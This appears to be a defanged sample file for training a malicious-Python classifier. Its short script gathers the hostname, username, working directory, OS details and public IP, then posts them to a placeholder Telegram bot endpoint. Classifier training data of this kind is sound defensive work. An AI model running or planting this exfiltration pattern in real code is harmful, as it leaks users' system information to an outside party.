# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import os, socket, getpass, platform, requests

BOT = "000000:PLACEHOLDER"
CHAT = "000000"
info = "host=%s user=%s cwd=%s os=%s ip=%s" % (
    socket.gethostname(), getpass.getuser(), os.getcwd(), platform.platform(),
    requests.get("http://192.0.2.9/ip").text,
)
requests.post("https://api.telegram.example.invalid/bot" + BOT + "/sendMessage", data={"chat_id": CHAT, "text": info})
